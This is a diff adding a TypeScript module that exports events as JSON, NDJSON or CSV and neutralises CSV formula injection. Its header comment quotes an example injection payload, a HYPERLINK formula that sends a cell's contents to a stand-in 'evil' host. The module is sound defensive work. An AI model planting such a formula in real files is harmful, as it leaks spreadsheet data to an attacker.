@@ -1,0 +1,77 @@
+/**
+ * Encodings of events for export: JSON (one array), NDJSON (one event per line) and CSV.
+ * CSV is what admins open in Excel, so it defends against formula injection: a file name such as
+ * `=HYPERLINK("http://evil/?"&A1,"click")` must stay text when the sheet is opened.
+ */
+import { EVENT_FIELDS } from './schema.js';
+
+export type ExportFormat = 'json' | 'ndjson' | 'csv';
+export const EXPORT_FORMATS: readonly ExportFormat[] = ['json', 'ndjson', 'csv'];
+
+export const CONTENT_TYPES: Record<ExportFormat, string> = {
+  json: 'application/json; charset=utf-8',
+  ndjson: 'application/x-ndjson; charset=utf-8',
+  csv: 'text/csv; charset=utf-8',
+};
+
+/** Columns of the CSV export: every event field, then when the collector received it. */
+export const CSV_COLUMNS: readonly string[] = [...EVENT_FIELDS, 'receivedAt'];
+
+/** Characters that make a spreadsheet treat a cell as a formula (OWASP "CSV injection"). */
+const FORMULA_START = /^[=+\-@\t\r]/;
+
+/**
+ * One CSV cell: null → empty; a leading formula character gets an apostrophe so the cell stays text;
+ * then RFC 4180 quoting when the value holds a comma, quote, CR or LF.
+ */
+export function csvCell(value: unknown): string {
+  if (value === null || value === undefined) return '';
+  let s = typeof value === 'string' ? value : String(value);
+  // Numbers we produce ourselves (size, rule, v) are never negative, so only strings need the guard.
+  if (typeof value === 'string' && FORMULA_START.test(s)) s = `'${s}`;
+  if (/[",\r\n]/.test(s)) s = `"${s.replace(/"/g, '""')}"`;
+  return s;
+}
+
+export function csvRow(values: readonly unknown[]): string {
+  return values.map(csvCell).join(',') + '\r\n';
+}
+
+export function csvHeader(columns: readonly string[] = CSV_COLUMNS): string {
+  return csvRow(columns);
+}
+
+export function csvLine(event: Record<string, unknown>, columns: readonly string[] = CSV_COLUMNS): string {
+  return csvRow(columns.map((c) => event[c]));
+}
+
+/** A UTF-8 byte-order mark: Excel needs it to read Japanese file names in a CSV as UTF-8. */
+export const CSV_BOM = '\uFEFF';
+
+export function toCsv(events: readonly Record<string, unknown>[], opts: { bom?: boolean } = {}): string {
+  return (opts.bom === false ? '' : CSV_BOM) + csvHeader() + events.map((e) => csvLine(e)).join('');
+}
+
+export function ndjsonLine(event: unknown): string {
+  // JSON.stringify escapes U+2028/2029 since ES2019, and every control character, so one event is one line.
+  return JSON.stringify(event) + '\n';
+}
+
+export function toNdjson(events: readonly unknown[]): string {
+  return events.map(ndjsonLine).join('');
+}
+
+export function toJson(events: readonly unknown[]): string {
+  return JSON.stringify(events);
+}
+
+export function encodeEvents(events: readonly Record<string, unknown>[], format: ExportFormat): string {
+  switch (format) {
+    case 'json':
+      return toJson(events);
+    case 'ndjson':
+      return toNdjson(events);
+    case 'csv':
+      return toCsv(events);
+  }
+}
